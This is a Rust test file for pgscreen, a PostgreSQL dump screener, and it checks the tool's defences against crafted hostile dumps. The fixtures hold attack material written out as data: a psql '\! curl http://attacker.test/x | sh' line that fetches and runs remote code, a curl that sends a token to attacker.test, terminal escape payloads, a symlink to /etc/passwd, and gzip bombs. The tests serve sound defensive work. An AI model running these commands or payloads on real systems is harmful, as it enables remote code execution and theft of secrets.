//! Hostile input: a dump must not be able to doctor its own report, leak its secrets, make
//! pgscreen read outside the archive it was given, or take unbounded time or memory. One
//! crafted input per guarantee, each checked for the exact outcome a careful user expects.

mod common;

use common::{corpus, run};
use serde_json::Value;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, bytes).unwrap();
    p
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// What a terminal may receive from us: no control character but `\n`, and ESC only as the
/// start of one of our own SGR colour codes; no C1 control or bidi override either.
fn terminal_safe(text: &str) -> Result<(), String> {
    const SGR: [&str; 8] = [
        "\x1b[0m",
        "\x1b[1m",
        "\x1b[2m",
        "\x1b[31m",
        "\x1b[1;31m",
        "\x1b[33m",
        "\x1b[36m",
        "\x1b[32m",
    ];
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        if c == '\x1b' {
            match SGR.iter().find(|s| rest.starts_with(**s)) {
                Some(s) => {
                    rest = &rest[s.len()..];
                    continue;
                }
                None => return Err(format!("raw ESC at {:?}", &rest[..rest.len().min(40)])),
            }
        }
        let bad = (c.is_control() && c != '\n') || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        if bad {
            return Err(format!("control {c:?} at {:?}", &rest[..rest.len().min(40)]));
        }
        rest = &rest[c.len_utf8()..];
    }
    Ok(())
}

/// A dump whose names, values and meta-command try to drive the terminal: clear the screen,
/// retitle the window, erase the line above (where the critical finding would be), and a bidi
/// override; plus a statement that does not parse (a warning on stderr) holding ESC too.
fn escape_dump(dir: &Path) -> PathBuf {
    let mut d = Vec::new();
    d.extend_from_slice(b"--\n-- PostgreSQL database dump\n--\n\n");
    d.extend_from_slice(b"CREATE TABLE public.\"evil\x1b[2Jname\nx\" (id integer, note text, email text);\n");
    d.extend_from_slice(b"COPY public.\"evil\x1b[2Jname\nx\" (id, note, email) FROM stdin;\n");
    d.extend_from_slice(
        b"1\tghp_abcdefghijklmnopqrstuvwxyz0123456789 \x1b]0;pwned\x07\x1b[2K\r\x1b[1A\talice\x1b[2J@corp-mail.com\n",
    );
    d.extend_from_slice(b"2\t\\033[2J\\r\\n\xe2\x80\xae txt.exe\tbob@corp-mail.com\n");
    d.extend_from_slice(b"3\tshort row \x1b[2J\n");
    d.extend_from_slice(b"\\.\n");
    d.extend_from_slice(b"\\! curl http://attacker.test/x | sh \x1b[2K\r\x1b[1A\n");
    d.extend_from_slice(b"SELEC \x1b[2J broken;\n");
    write(dir, "escape.sql", &d)
}

#[test]
fn no_escape_from_the_dump_reaches_a_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let dump = escape_dump(dir.path());
    let contract = write(
        dir.path(),
        "c.json",
        br#"{"tables": {"public.missing\u001b[2J": {"columns": {"id": "integer"}}}}"#,
    );
    let runs: Vec<Vec<&str>> = vec![
        vec!["scan", s(&dump)],
        vec!["scan", "--color", "always", s(&dump)],
        vec!["scan", "--color", "never", s(&dump)],
        vec!["inspect", "--color", "always", s(&dump)],
        vec!["inspect", s(&dump)],
        vec!["verify", "--color", "always", s(&dump)],
        vec![
            "check",
            "--color",
            "always",
            s(&dump),
            "--contract",
            s(&contract),
            "--all",
        ],
    ];
    for args in runs {
        let out = run(&args);
        let stdout = String::from_utf8_lossy(&out.stdout);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!stdout.is_empty(), "{args:?}: {stderr}");
        terminal_safe(&stdout).unwrap_or_else(|e| panic!("{args:?} stdout: {e}\n{stdout}"));
        terminal_safe(&stderr).unwrap_or_else(|e| panic!("{args:?} stderr: {e}\n{stderr}"));
        assert!(!stdout.contains('\x07') && !stdout.contains('\r'), "{args:?}");
        if args[0] == "scan" {
            // The finding the escapes tried to erase is there, on its own line, whole.
            let line = stdout
                .lines()
                .find(|l| l.contains("meta-shell"))
                .unwrap_or_else(|| panic!("{args:?}: no meta-shell line in\n{stdout}"));
            assert!(line.contains("critical"), "{line}");
            assert!(
                line.contains("curl http://attacker.test/x | sh \\x1b[2K\\r\\x1b[1A"),
                "{line}"
            );
            // The object name with a line break is one escaped heading.
            assert!(stdout.contains("evil\\x1b[2Jname\\nx"), "{stdout}");
        }
        if args[0] == "inspect" {
            assert!(
                stderr.contains("evil\\x1b[2Jname\\nx"),
                "the warning is escaped: {stderr}"
            );
            assert!(stdout.contains("public.evil\\x1b[2Jname\\nx"), "{stdout}");
        }
    }
    // SARIF message texts (shown by code-scanning UIs) are escaped too; JSON keeps exact values.
    let sarif: Value = serde_json::from_slice(&run(&["scan", "--format", "sarif", s(&dump)]).stdout).unwrap();
    for r in sarif["runs"][0]["results"].as_array().unwrap() {
        let text = r["message"]["text"].as_str().unwrap();
        assert!(!text.chars().any(|c| c.is_control()), "{text:?}");
    }
    let json: Value = serde_json::from_slice(&run(&["scan", "--format", "json", s(&dump)]).stdout).unwrap();
    assert!(json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["object"]["name"] == "public.\"evil\u{1b}[2Jname\nx\""
            || f["object"]["name"] == "evil\u{1b}[2Jname\nx"));
}

#[test]
fn an_error_naming_a_hostile_file_stays_one_inert_line() {
    let dir = tempfile::tempdir().unwrap();
    let p = write(dir.path(), "x\x1b[2J\nevil.sql", b"COPY t FROM stdin;\n1\n");
    let out = run(&["scan", s(&p)]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.contains("x\\x1b[2J\\nevil.sql"), "{err}");
    terminal_safe(&err).unwrap();
}

#[test]
fn verify_never_quotes_a_secret_whole() {
    let dir = tempfile::tempdir().unwrap();
    let ghp = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
    let akia = "AKIAQWERTYUIOPASDFGH";
    let stripe = "sk_live_abcdefghijklmnopqrstuvwx";
    let slack = "xoxb-123456789012-1234567890123-abcdefghijklmnopqrstuvwx";
    let email = "carol.danvers@corp-mail.com";
    let dump = format!(
        "CREATE TABLE public.t (id integer, note text NOT NULL, d date, tags integer[]);\n\
         CREATE TABLE public.k (api_key text, CONSTRAINT k_pkey PRIMARY KEY (api_key));\n\
         CREATE TABLE public.c (ref text, CONSTRAINT c_ref_fkey FOREIGN KEY (ref) REFERENCES public.k(api_key));\n\
         CREATE TABLE public.u (id integer, email text);\n\
         COPY public.t (id, note, d, tags) FROM stdin;\n\
         {ghp}\tx\t2020-01-01\t{{1}}\n\
         1\ty\t{akia}\t{{1}}\n\
         2\tz\t2020-01-01\t{{1,{ghp}}}\n\
         \\.\n\
         COPY public.k (api_key) FROM stdin;\n{stripe}\n{stripe}\n\\.\n\
         COPY public.c (ref) FROM stdin;\n{slack}\n\\.\n\
         COPY public.u (id, email) FROM stdin;\n{email}\tx\n\\.\n"
    );
    let p = write(dir.path(), "secrets.sql", dump.as_bytes());
    for format in ["text", "json", "sarif"] {
        let out = run(&["verify", "--format", format, s(&p)]);
        assert_eq!(out.status.code(), Some(1), "{format}");
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        for secret in [ghp, akia, stripe, slack, email] {
            assert!(!all.contains(secret), "{format}: {secret} shown whole in\n{all}");
        }
        // Each fault is still there, with what may be shown of the value.
        for rule in ["invalid-value", "duplicate-key", "foreign-key-orphan"] {
            assert!(all.contains(rule), "{format}: {rule} missing\n{all}");
        }
        if format == "text" {
            assert!(all.contains("ghp_****"), "{all}");
        }
    }
    // A composite key's values are judged column by column: a phone stays redacted.
    let composite = write(
        dir.path(),
        "composite.sql",
        b"CREATE TABLE public.p (phone text, org_id integer, CONSTRAINT p_key UNIQUE (phone, org_id));\n\
          COPY public.p (phone, org_id) FROM stdin;\n+14155550123\t7\n+14155550123\t7\n\\.\n",
    );
    let out = run(&["verify", "--format", "json", s(&composite)]);
    let all = String::from_utf8_lossy(&out.stdout);
    assert!(all.contains("duplicate-key") && !all.contains("+14155550123"), "{all}");
    // A value nobody would flag is still quoted as the server quotes it.
    let plain = write(
        dir.path(),
        "plain.sql",
        b"CREATE TABLE public.t (id integer);\nCOPY public.t (id) FROM stdin;\n12abc\n\\.\n",
    );
    let out = run(&["verify", s(&plain)]);
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("invalid input syntax for type integer: \"12abc\""),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
}

/// A copy of chinook's directory archive.
fn chinook_dir(dir: &Path) -> PathBuf {
    let d = dir.join("chinook.dir");
    std::fs::create_dir(&d).unwrap();
    for e in std::fs::read_dir(corpus("chinook.dir")).unwrap() {
        let e = e.unwrap();
        std::fs::copy(e.path(), d.join(e.file_name())).unwrap();
    }
    d
}

#[test]
fn archive_members_never_lead_outside_the_archive() {
    let dir = tempfile::tempdir().unwrap();
    let outside = write(
        dir.path(),
        "outside.dat",
        b"ghp_abcdefghijklmnopqrstuvwxyz0123456789\t1\t1\n\\.\n",
    );
    let d = chinook_dir(dir.path());
    std::fs::remove_file(d.join("3422.dat.gz")).unwrap();
    std::os::unix::fs::symlink(&outside, d.join("3422.dat")).unwrap();
    let contract = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/handoff.contract.json");
    for cmd in [
        vec!["scan", s(&d)],
        vec!["inspect", s(&d)],
        vec!["verify", s(&d)],
        vec!["check", s(&d), "--contract", s(&contract)],
    ] {
        let out = run(&cmd);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{cmd:?}: {err}");
        assert_eq!(err.lines().count(), 1, "{cmd:?}: {err}");
        assert!(err.contains("3422.dat"), "names the member: {err}");
        assert!(!String::from_utf8_lossy(&out.stdout).contains("ghp_"), "{cmd:?}");
    }

    // toc.dat itself a link: not an archive.
    let d2 = dir.path().join("linked-toc");
    std::fs::create_dir(&d2).unwrap();
    std::os::unix::fs::symlink(corpus("chinook.dir").join("toc.dat"), d2.join("toc.dat")).unwrap();
    for cmd in ["scan", "inspect", "verify"] {
        let out = run(&[cmd, s(&d2)]);
        assert_eq!(out.status.code(), Some(2), "{cmd}");
    }

    // A tar archive with a member that is a link to another member.
    let x = dir.path().join("x");
    std::fs::create_dir(&x).unwrap();
    let st = Command::new("tar")
        .args(["xf", s(&corpus("chinook.tar")), "-C", s(&x)])
        .status()
        .unwrap();
    assert!(st.success());
    std::fs::remove_file(x.join("3422.dat")).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", x.join("3422.dat")).unwrap();
    let mut names: Vec<String> = std::fs::read_dir(&x)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n != "toc.dat")
        .collect();
    names.sort();
    names.insert(0, "toc.dat".into());
    let tarball = dir.path().join("linked.tar");
    let st = Command::new("tar")
        .args(["cf", s(&tarball), "--format=ustar", "-C", s(&x)])
        .args(&names)
        .status()
        .unwrap();
    assert!(st.success());
    for cmd in ["scan", "inspect", "verify"] {
        let out = run(&[cmd, s(&tarball)]);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{cmd}: {err}");
        assert!(err.contains("3422.dat") && err.contains("link"), "{err}");
    }
}

/// Peak heap as `PGSCREEN_STATS` reports it.
fn peak_heap(stderr: &str) -> u64 {
    stderr
        .lines()
        .find_map(|l| l.strip_prefix("pgscreen: stats: peak heap "))
        .and_then(|l| l.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no stats in {stderr}"))
}

/// Refused with exit 2 within seconds and under 256 MiB of heap.
fn refused_quickly(args: &[&str], stdin: Option<&[u8]>) -> String {
    refused_within(args, stdin, 256 << 20)
}

/// Refused with exit 2 within seconds and under `heap` bytes of heap.
fn refused_within(args: &[&str], stdin: Option<&[u8]>, heap: u64) -> String {
    let t = Instant::now();
    let mut child = common::bin()
        .args(args)
        .env("PGSCREEN_STATS", "1")
        .stdin(if stdin.is_some() { Stdio::piped() } else { Stdio::null() })
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    if let Some(bytes) = stdin {
        let mut w = child.stdin.take().unwrap();
        // pgscreen stops reading early: the rest of the write fails, as it should.
        let _ = w.write_all(bytes);
    }
    let out = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(2), "{args:?}: {err}");
    assert!(t.elapsed() < Duration::from_secs(20), "{args:?} took {:?}", t.elapsed());
    assert!(peak_heap(&err) < heap, "{args:?}: {err}");
    err
}

/// `members` gzip members, each `chunk` bytes of `fill` compressed: concatenated, as gzip allows.
fn gzip_bomb(fill: &[u8], chunk: usize, members: usize) -> Vec<u8> {
    let mut one = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let block: Vec<u8> = fill.iter().copied().cycle().take(1 << 20).collect();
    for _ in 0..chunk >> 20 {
        one.write_all(&block).unwrap();
    }
    let one = one.finish().unwrap();
    one.repeat(members)
}

#[test]
fn bombs_and_endless_input_are_refused_before_they_are_read() {
    let dir = tempfile::tempdir().unwrap();
    // 10 GiB of zeros in a 10 MB gzip: binary, refused at its first block.
    let zeros = write(dir.path(), "zeros.sql.gz", &gzip_bomb(&[0], 64 << 20, 160));
    for cmd in ["scan", "inspect", "verify"] {
        let err = refused_quickly(&[cmd, s(&zeros)], None);
        assert!(err.contains("NUL byte"), "{err}");
    }
    // 1 GiB of SQL comments in ~1 MB: text, refused by the expansion ratio once the text is
    // more than 200 times the file (at ~200 MB here).
    let text = write(
        dir.path(),
        "text.sql.gz",
        &gzip_bomb(b"-- nothing to see here\n", 64 << 20, 16),
    );
    for cmd in ["scan", "inspect"] {
        let err = refused_quickly(&[cmd, s(&text)], None);
        assert!(err.contains("times its size") && err.contains("--max-ratio"), "{err}");
    }
    // verify still holds the expansion in memory (streaming it is issue 24's): bounded by the
    // ratio times the file's size, not by the bomb.
    let size = std::fs::metadata(&text).unwrap().len();
    let err = refused_within(&["verify", s(&text)], None, 200 * size + (64 << 20));
    assert!(err.contains("times its size"), "{err}");
    // --max-expanded refuses earlier still, and says which limit.
    let err = refused_quickly(&["--max-expanded", "1MiB", "scan", s(&text)], None);
    assert!(err.contains("--max-expanded"), "{err}");
    // An endless device.
    for cmd in ["scan", "inspect", "verify"] {
        let err = refused_quickly(&[cmd, "/dev/zero"], None);
        assert!(err.contains("NUL byte"), "{err}");
    }
    // An archive magic number followed by junk on a pipe: the header is checked first.
    let mut junk = b"PGDMP".to_vec();
    junk.resize(64 << 20, 0);
    for cmd in ["scan", "inspect", "verify"] {
        let err = refused_quickly(&[cmd, "-"], Some(&junk));
        assert!(err.contains("archive version"), "{err}");
    }
}

#[test]
fn a_file_truncated_while_read_is_an_error_not_a_signal() {
    let dir = tempfile::tempdir().unwrap();
    let big = dir.path().join("big.sql");
    let st = Command::new(env!("CARGO_BIN_EXE_gen-corpus"))
        .args(["--size", "300MiB", "--seed", "3", "-o", s(&big)])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .unwrap();
    assert!(st.success());
    let attest = dir.path().join("att.json");
    let contract = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/handoff.contract.json");
    for args in [
        vec!["verify", s(&big)],
        vec!["scan", "--threads", "1", s(&big)],
        vec!["check", s(&big), "--contract", s(&contract), "--attest", s(&attest)],
    ] {
        let victim = dir.path().join("victim.sql");
        std::fs::copy(&big, &victim).unwrap();
        let args: Vec<&str> = args
            .iter()
            .map(|a| if *a == s(&big) { s(&victim) } else { a })
            .collect();
        let child = common::bin()
            .args(&args)
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        std::thread::sleep(Duration::from_millis(200));
        std::fs::OpenOptions::new()
            .write(true)
            .open(&victim)
            .unwrap()
            .set_len(1 << 20)
            .unwrap();
        let out = child.wait_with_output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {err}");
        assert_eq!(err.lines().count(), 1, "{args:?}: {err}");
        assert!(
            err.contains("victim.sql: changed while being read (size was") && err.contains("now 1048576)"),
            "{args:?}: {err}"
        );
        assert!(!attest.exists(), "no attestation of a file that changed");
    }
}

#[test]
fn baseline_ids_do_not_move_with_lines() {
    let dir = tempfile::tempdir().unwrap();
    let planted = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/eval-dev/pagila-planted.sql");
    let report =
        |p: &Path| -> Value { serde_json::from_slice(&run(&["scan", "--format", "json", s(p)]).stdout).unwrap() };
    let before = report(&planted);
    let baseline = write(
        dir.path(),
        "baseline.json",
        serde_json::to_string(&before).unwrap().as_bytes(),
    );
    let risks = before["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["category"] == "restore-risk")
        .count();
    assert!(risks >= 5, "the planted dump has restore-time risks: {risks}");
    // A comment line at the top moves every finding one line down.
    let mut moved = b"-- reviewed on 2026-11-30\n".to_vec();
    moved.extend(std::fs::read(&planted).unwrap());
    let moved = write(dir.path(), "moved.sql", &moved);
    let after = report(&moved);
    let ids = |r: &Value| -> std::collections::BTreeSet<String> {
        r["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["id"].as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(ids(&before), ids(&after), "same ids after the lines moved");
    let out = run(&["scan", "--format", "json", "--baseline", s(&baseline), s(&moved)]);
    let r: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(r["summary"]["findings"], 0, "{r}");
    assert_eq!(out.status.code(), Some(0));
    // verify's ids do not move either.
    let vids = |p: &Path| -> std::collections::BTreeSet<String> {
        let v: Value = serde_json::from_slice(&run(&["verify", "--format", "json", s(p)]).stdout).unwrap();
        ids(&v)
    };
    let broken =
        b"CREATE TABLE public.t (id integer NOT NULL);\nCOPY public.t (id) FROM stdin;\nx\n\\N\n\\.\nSELEC 1;\n";
    let a = write(dir.path(), "a.sql", broken);
    let mut shifted = b"\n\n-- moved\n".to_vec();
    shifted.extend_from_slice(broken);
    let b = write(dir.path(), "b.sql", &shifted);
    assert_eq!(vids(&a), vids(&b));
    assert_eq!(vids(&a).len(), 3);
}

#[test]
fn formats_a_command_cannot_write_are_refused() {
    for args in [
        vec!["inspect", "--format", "sarif", "x.sql"],
        vec!["check", "--format", "sarif", "x.sql", "--contract", "c.json"],
        vec!["rules", "--format", "sarif"],
    ] {
        let out = run(&args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert!(out.stdout.is_empty());
        assert!(String::from_utf8_lossy(&out.stderr).contains("sarif"));
    }
    for args in [vec!["rules", "--format", "json"], vec!["rules"]] {
        assert_eq!(run(&args).status.code(), Some(0));
    }
}

#[test]
fn archive_data_without_its_terminator_is_flagged() {
    let dir = tempfile::tempdir().unwrap();
    let d = chinook_dir(dir.path());
    // An empty data member: pg_dump always ends COPY data with a `\.` line.
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(b"").unwrap();
    std::fs::write(d.join("3422.dat.gz"), gz.finish().unwrap()).unwrap();
    let r: Value = serde_json::from_slice(&run(&["scan", "--format", "json", s(&d)]).stdout).unwrap();
    let f: Vec<&Value> = r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "archive-data-unterminated")
        .collect();
    assert_eq!(f.len(), 1, "{r}");
    assert_eq!(f[0]["severity"], "high");
    assert_eq!(f[0]["category"], "restore-risk");
    assert_eq!(f[0]["object"]["name"], "public.album");
    assert!(f[0]["message"].as_str().unwrap().contains("TOC entry 3422"));
    // The data that follows is not counted as this table's rows.
    let out = run(&["inspect", s(&d)]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("TOC entry 3422") && err.contains("terminator"), "{err}");
    // A member that ends mid-row.
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(b"1\tFor Those About To Rock\t1\n2\tBalls").unwrap();
    std::fs::write(d.join("3422.dat.gz"), gz.finish().unwrap()).unwrap();
    let r: Value = serde_json::from_slice(&run(&["scan", "--format", "json", s(&d)]).stdout).unwrap();
    assert!(r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["rule"] == "archive-data-unterminated"));
    // The genuine archive has none.
    let r: Value =
        serde_json::from_slice(&run(&["scan", "--format", "json", s(&corpus("chinook.dir"))]).stdout).unwrap();
    assert!(!r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["rule"] == "archive-data-unterminated"));
}

#[test]
fn json_nested_past_the_servers_stack_is_predicted_to_fail() {
    let dir = tempfile::tempdir().unwrap();
    let dump = |depth: usize| {
        format!(
            "CREATE TABLE public.j (id integer, doc jsonb);\nCOPY public.j (id, doc) FROM stdin;\n1\t{}{}\n\\.\n",
            "[".repeat(depth),
            "]".repeat(depth)
        )
    };
    let deep = write(dir.path(), "deep.sql", dump(20_000).as_bytes());
    let out = run(&["verify", "--format", "json", s(&deep)]);
    assert_eq!(out.status.code(), Some(1));
    let r: Value = serde_json::from_slice(&out.stdout).unwrap();
    let f = &r["findings"][0];
    assert_eq!(f["severity"], "high");
    assert!(
        f["message"].as_str().unwrap().starts_with("stack depth limit exceeded"),
        "{f}"
    );
    let fine = write(dir.path(), "fine.sql", dump(10_000).as_bytes());
    assert_eq!(run(&["verify", s(&fine)]).status.code(), Some(0));
}

#[test]
fn scan_messages_and_warnings_never_quote_a_secret_whole() {
    let dir = tempfile::tempdir().unwrap();
    let token = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
    let dump = format!(
        "CREATE TABLE public.s (t text);\n\
         \\! curl -H 'Authorization: token {token}' https://attacker.test/\n\
         UPDATE public.s SET t = '{token}';\n\
         SELEC '{token}' broken;\n"
    );
    let p = write(dir.path(), "s.sql", dump.as_bytes());
    for format in ["text", "json", "sarif"] {
        let out = run(&["scan", "--format", format, s(&p)]);
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(
            all.contains("meta-shell") && all.contains("unexpected-dml"),
            "{format}: {all}"
        );
        assert!(!all.contains(token), "{format}: {all}");
    }
    for args in [vec!["inspect", s(&p)], vec!["inspect", "--format", "json", s(&p)]] {
        let out = run(&args);
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(!all.contains(token), "{args:?}: {all}");
    }
    // --show-secrets shows them, as asked.
    let out = run(&["scan", "--show-secrets", "--format", "json", s(&p)]);
    assert!(String::from_utf8_lossy(&out.stdout).contains(token));
}

#[test]
fn a_search_path_does_not_hide_a_trigger_that_fires_during_the_restore() {
    let dir = tempfile::tempdir().unwrap();
    let p = write(
        dir.path(),
        "trg.sql",
        b"SET search_path = public, pg_catalog;\nCREATE TABLE users (id int);\n\
          CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN RETURN NEW; END$$;\n\
          CREATE TRIGGER t BEFORE INSERT ON users FOR EACH ROW EXECUTE PROCEDURE f();\n\
          COPY users (id) FROM stdin;\n1\n\\.\n",
    );
    let r: Value = serde_json::from_slice(&run(&["scan", "--format", "json", s(&p)]).stdout).unwrap();
    assert!(
        r["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["rule"] == "trigger-before-data"),
        "{r}"
    );
    // A set_config of another path moves unqualified names there, as the server would.
    let q = write(
        dir.path(),
        "sp.sql",
        b"SET search_path = public, pg_catalog;\nSELECT pg_catalog.set_config('search_path', 'evil', false);\n\
          CREATE TABLE users (id int);\nCOPY users (id) FROM stdin;\n1\n\\.\n",
    );
    let inv: Value = serde_json::from_slice(&run(&["inspect", "--format", "json", s(&q)]).stdout).unwrap();
    assert_eq!(inv["tables"][0]["schema"], "evil", "{inv}");
}

/// CHECK constraints are the dump's own expressions: thousands of them, patterns that compile
/// to huge programs, hundreds of distinct patterns and a table with thousands of checks must
/// not make verify slow or its memory grow with them (before the bounds: 111 s and 1.3 GB of
/// heap on this dump). The first constraint, an ordinary one, is still decided.
#[test]
fn many_and_oversized_check_constraints_stay_bounded() {
    let dir = tempfile::tempdir().unwrap();
    let mut sql = String::from("SET client_encoding = 'UTF8';\n");
    sql.push_str("CREATE TABLE public.first (a text, CONSTRAINT first_a CHECK ((a ~ '^[a-z]+$'::text)));\n");
    for i in 0..3000 {
        sql.push_str(&format!(
            "CREATE TABLE public.t{i} (a text, CONSTRAINT c{i} CHECK ((a ~ '^(x{{1,50}}y){{1,40}}[a-z]{{30}}$'::text)));\n"
        ));
    }
    for i in 0..700 {
        sql.push_str(&format!(
            "CREATE TABLE public.p{i} (a text, CONSTRAINT d{i} CHECK ((a ~ '^a{{{i}}}b$'::text)));\n"
        ));
    }
    let checks: Vec<String> = (0..5000)
        .map(|j| format!("CONSTRAINT k{j} CHECK ((length(a) < {}))", j + 5))
        .collect();
    sql.push_str(&format!("CREATE TABLE public.many (a text, {});\n", checks.join(", ")));
    sql.push_str(&format!(
        "COPY public.many (a) FROM stdin;\n{}\\.\n",
        "abc\n".repeat(100_000)
    ));
    sql.push_str(&format!(
        "COPY public.t1 (a) FROM stdin;\n{}\\.\n",
        "xy\n".repeat(100_000)
    ));
    sql.push_str("COPY public.first (a) FROM stdin;\nok\nNOT OK\n\\.\n");
    let p = write(dir.path(), "checks.sql", sql.as_bytes());
    let t = Instant::now();
    let out = common::bin()
        .args(["verify", "--format", "json", s(&p)])
        .env("PGSCREEN_STATS", "1")
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(t.elapsed() < Duration::from_secs(30), "took {:?}", t.elapsed());
    assert!(peak_heap(&err) < 256 << 20, "{err}");
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let checks: Vec<&serde_json::Value> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "check-violation")
        .collect();
    assert_eq!(checks.len(), 1, "{checks:#?}");
    assert!(
        checks[0]["message"].as_str().unwrap().contains("\"first_a\""),
        "{checks:#?}"
    );
}
